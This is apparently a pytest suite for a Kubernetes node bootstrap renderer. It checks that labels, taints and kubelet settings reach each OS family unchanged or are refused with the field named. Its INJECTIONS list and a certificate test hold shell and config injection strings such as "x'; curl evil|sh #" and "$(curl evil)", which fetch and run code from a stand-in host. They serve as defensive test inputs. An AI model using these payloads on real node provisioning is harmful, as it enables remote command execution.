"""What older, looser schemas let through comes out equal on the node, or is refused with its field (LCH-30..34)."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.cloud.user_data.bootstrap import Bootstrap, boot_taints
from shared.cloud.user_data.rendering import render
from shared.errors import InvalidObject
from tests.support.aws.boot_data import (
    body,
    bootstrap,
    bootstrap_command,
    extra_words,
    flags_of,
    node_config,
    parts,
    powershell_arguments,
    said,
)

FAMILIES = ("AL2", "AL2023", "Bottlerocket", "Ubuntu", "Windows2019", "Windows2022", "Windows2025")
BASH = ("AL2", "Ubuntu")
EXTRA = "--kubelet-extra-args"
INJECTIONS = (
    "x'; curl evil|sh #", 'x"; curl evil|sh #', "x\ncurl evil", "x\r\ncurl evil", "`curl evil`",
    "$(curl evil)", "${IFS}", "x\\", "x' -Verbose '", "x\u2019; curl evil", "x\u2028y", "x\x85y", "x\x00y",
    '"""', "'''", "]]\n[settings.kubernetes]\nstandalone-mode = true", "x: {y: z}", "- x", "a,b=c", "a=b,c",
    "a b", "x\n--//\n", "</powershell>", "%h", "\u00e9", "\ud800", " ", "x'", "--v=9",
)  # fmt: skip


def refused(family: str, asked: Bootstrap) -> str:
    """The field that the error names."""
    with pytest.raises(InvalidObject, match="cannot be passed to a node") as raised:
        render(family, asked)
    assert str(raised.value).isascii(), "nothing of it reaches a terminal"
    return raised.value.field


def refusal(family: str, asked: Bootstrap) -> str:
    """The field that is refused; empty when none is."""
    try:
        render(family, asked)
    except InvalidObject as error:
        return error.field
    return ""


def places(text: str) -> dict[str, dict[str, Any]]:
    """Field that the error must name -> what is changed of a harmless bootstrap."""
    return {
        "CLUSTER_NAME": {"cluster_name": text},
        "CLUSTER_ENDPOINT": {"endpoint": text},
        "the address of the service kube-dns": {"cluster_dns": text},
        "the cluster's serviceIpv4Cidr": {"service_cidr": text},
        "metadata.labels": {"labels": {text: "x"}},
        "metadata.labels[team]": {"labels": {"team": text}},
        "spec.taints.key": {"taints": ((text, "x", "NoSchedule"),)},
        "spec.taints[team].value": {"taints": (("team", text, "NoSchedule"),)},
        "spec.taints[team].effect": {"taints": (("team", "x", text),)},
        "spec.kubelet.clusterDNS": {"kubelet": {"clusterDNS": [text]}},
        "spec.kubelet.podsPerCore": {"kubelet": {"podsPerCore": text}},
        "spec.kubelet.evictionMaxPodGracePeriod": {"kubelet": {"evictionMaxPodGracePeriod": text}},
        "spec.kubelet.imageGCHighThresholdPercent": {
            "kubelet": {"imageGCHighThresholdPercent": text}
        },
        "spec.kubelet.imageGCLowThresholdPercent": {
            "kubelet": {"imageGCLowThresholdPercent": text}
        },
        "spec.kubelet.cpuCFSQuota": {"kubelet": {"cpuCFSQuota": text}},
        "spec.kubelet.containerRuntime": {"kubelet": {"containerRuntime": text}},
        "spec.kubelet.evictionSoft": {"kubelet": {"evictionSoft": text}},
        **_maps(text),
    }


def _maps(text: str) -> dict[str, dict[str, Any]]:
    names = ("systemReserved", "kubeReserved", "evictionHard", "evictionSoftGracePeriod")
    keys = {f"spec.kubelet.{name}": {"kubelet": {name: {text: "1"}}} for name in names}
    values = {
        f"spec.kubelet.{name}[memory]": {"kubelet": {name: {"memory": text}}} for name in names
    }
    return keys | values


@pytest.mark.slow
@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injection_is_refused_wherever_it_stands(family: str, text: str) -> None:
    """By every family: a node of none could use the value."""
    for field, changes in places(text).items():
        assert refused(family, bootstrap(**changes)) == field


@pytest.mark.parametrize("text", ["Q0E='; curl evil|sh #", "Q0E=$(x)", "Q0E=`x`", 'Q"E', "Q\u00e9"])
def test_a_certificate_is_base64(text: str) -> None:
    assert refused("AL2", bootstrap(ca_bundle=text)) == "CLUSTER_CA_BUNDLE"


def test_a_class_with_user_data_of_its_own_is_told_nothing_and_refused_nothing() -> None:
    """LCH-35: of the values none is rendered."""
    assert render("Custom", bootstrap(cluster_name="x'; y", user_data="mine")) == "mine"


WORDS = st.from_regex(r"[A-Za-z0-9]([-A-Za-z0-9_.]{0,20}[A-Za-z0-9])?", fullmatch=True)
ANYTHING = WORDS | st.sampled_from(INJECTIONS) | st.text(max_size=12)
NUMBERS = st.integers(0, 10**6) | ANYTHING
AMOUNTS = st.dictionaries(
    st.sampled_from(("cpu", "memory", "memory.available", "pid")) | ANYTHING,
    st.sampled_from(("100m", "1Gi", "5%", "2m30s", "1.5")) | ANYTHING,
    max_size=2,
)
KUBELET = st.fixed_dictionaries(
    {},
    optional={
        "clusterDNS": st.lists(st.sampled_from(("10.0.0.10", "fd00::a")) | ANYTHING, max_size=2),
        "podsPerCore": NUMBERS,
        "cpuCFSQuota": st.booleans() | ANYTHING,
        "systemReserved": AMOUNTS,
        "kubeReserved": AMOUNTS,
        "evictionHard": AMOUNTS,
        "evictionSoft": AMOUNTS,
        "evictionSoftGracePeriod": AMOUNTS,
    },
)
ASKED = st.builds(
    lambda labels, taints, kubelet, name: bootstrap(
        labels=labels, taints=boot_taints(taints), max_pods=29, kubelet=kubelet, cluster_name=name
    ),
    st.dictionaries(ANYTHING, ANYTHING, min_size=1, max_size=2),
    st.lists(st.tuples(ANYTHING, ANYTHING, st.sampled_from(("NoSchedule", "NoExecute", "x'"))), max_size=2),
    KUBELET,
    WORDS | ANYTHING,
)  # fmt: skip


def list_of(amounts: dict[str, str], sign: str) -> dict[str, str]:
    """As the kubelet splits it; ``amounts`` must come out."""
    text = ",".join(f"{key}{sign}{value}" for key, value in sorted(amounts.items()))
    split = (entry.split(sign) for entry in text.split(",") if entry)
    return {key: value for key, value in split}


def assert_reaches_the_kubelet(family: str, asked: Bootstrap) -> None:
    """Labels, taints and settings, split as whoever reads them splits them."""
    text = render(family, asked)
    told = said(family, asked)
    assert told.cluster == asked.cluster_name
    assert dict(entry.split("=") for entry in told.labels.split(",")) == dict(asked.labels)
    taints = [tuple(entry.replace("=", ":").split(":")) for entry in told.taints.split(",")]
    assert sorted(taints) == sorted(asked.taints)
    for name, sign in (("kubeReserved", "="), ("evictionHard", "<")):
        amounts = {str(key): str(value) for key, value in asked.kubelet.get(name, {}).items()}
        assert list_of(amounts, sign) == amounts
    if family in BASH:
        command = bootstrap_command(text)
        extra = command[command.index(EXTRA) + 1]
        assert shlex.split(f"'{extra}'") == [extra], "bootstrap.sh puts it in single quotes"
        assert "\n" not in extra
        assert flags_of(extra_words(command))
    if family.startswith("Windows"):
        assert flags_of(shlex.split(powershell_arguments(text)["KubeletExtraArgs"]))
    if family == "AL2023":
        config = node_config(text)["kubelet"]["config"]
        assert {name: config[name] for name in asked.kubelet} == dict(asked.kubelet)


@pytest.mark.slow
@pytest.mark.parametrize("family", ["AL2", "AL2023", "Bottlerocket", "Windows2022"])
def test_what_is_not_refused_comes_out_as_it_was_written(family: str) -> None:
    """Whatever stands in the fields: equal, or an error with the field."""

    def holds(asked: Bootstrap) -> None:
        if field := refusal(family, asked):
            assert field.isascii()
        else:
            assert_reaches_the_kubelet(family, asked)

    settings(deadline=None)(given(ASKED)(holds))()


VALID = st.builds(
    lambda labels, taints, kubelet, name: bootstrap(
        labels=labels, taints=boot_taints(taints), max_pods=29, kubelet=kubelet, cluster_name=name
    ),
    st.dictionaries(WORDS, WORDS, min_size=1, max_size=3),
    st.lists(st.tuples(WORDS, WORDS, st.sampled_from(("NoSchedule", "NoExecute"))), max_size=2),
    st.fixed_dictionaries(
        {"kubeReserved": st.just({"cpu": "100m", "memory": "5%"}), "podsPerCore": st.integers(0, 99)}
    ),
    st.from_regex(r"[0-9A-Za-z][0-9A-Za-z_-]{0,20}", fullmatch=True),
)  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("family", FAMILIES)
def test_what_keeps_to_the_syntax_is_never_refused(family: str) -> None:
    settings(deadline=None, max_examples=50)(
        given(VALID)(lambda asked: assert_reaches_the_kubelet(family, asked))
    )()


@pytest.fixture
def stand_ins(tmp_path: Path) -> Path:
    """All that a script finds on PATH: a bootstrap.sh that writes down its arguments, and two that swallow the log."""
    directory = tmp_path / "bin"
    directory.mkdir()
    for name, script in {
        "bootstrap.sh": f'printf "%s\\0" "$@" > {tmp_path}/arguments',
        "tee": "while read -r line; do :; done",
        "logger": "while read -r line; do :; done",
    }.items():
        path = directory / name
        path.write_text(f"#!/bin/bash\n{script}\n")
        path.chmod(0o755)
    (tmp_path / "home").mkdir()
    return tmp_path


def run_by_bash(stand_ins: Path, asked: Bootstrap) -> list[str]:
    """The arguments that EKS's script gets when bash runs the boot data."""
    script = body(parts(render("AL2", asked))[-1])
    script = script.replace("\n/etc/eks/bootstrap.sh ", "\nbootstrap.sh ", 1)
    script = script.replace("/var/log/user-data.log", "log").replace("/dev/console", "/dev/null")
    bash = shutil.which("bash")
    assert bash
    home = stand_ins / "home"
    (stand_ins / "arguments").unlink(missing_ok=True)
    path = {"PATH": str(stand_ins / "bin")}
    subprocess.run([bash, "-n"], input=script, text=True, check=True, env=path)
    subprocess.run(
        [bash, "-xe"], input=script, text=True, check=True, env=path, cwd=home, timeout=60,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    assert os.listdir(home) == [], "something else was run"
    return (stand_ins / "arguments").read_text().split("\0")[:-1]


def test_bash_hands_the_values_on_as_they_were_written(stand_ins: Path) -> None:
    """LCH-30: really run, with a stand-in for EKS's script."""
    asked = bootstrap(
        labels={"example.com/team": "a-b_c.d", "x": ""},
        taints=boot_taints([("dedicated", "gpu", "NoSchedule")]),
        max_pods=29,
        kubelet={"evictionHard": {"memory.available": "5%"}, "clusterDNS": ["10.0.0.10"]},
    )
    words = run_by_bash(stand_ins, asked)
    assert words[:5] == [
        "demo",
        "--apiserver-endpoint",
        "https://demo.example",
        "--b64-cluster-ca",
        "Q0E=",
    ]
    assert flags_of(shlex.split(words[words.index(EXTRA) + 1])) == {
        "node-labels": "example.com/team=a-b_c.d,x=",
        "register-with-taints": "dedicated=gpu:NoSchedule,karpenter.sh/unregistered=:NoExecute",
        "max-pods": "29",
        "eviction-hard": "memory.available<5%",
    }
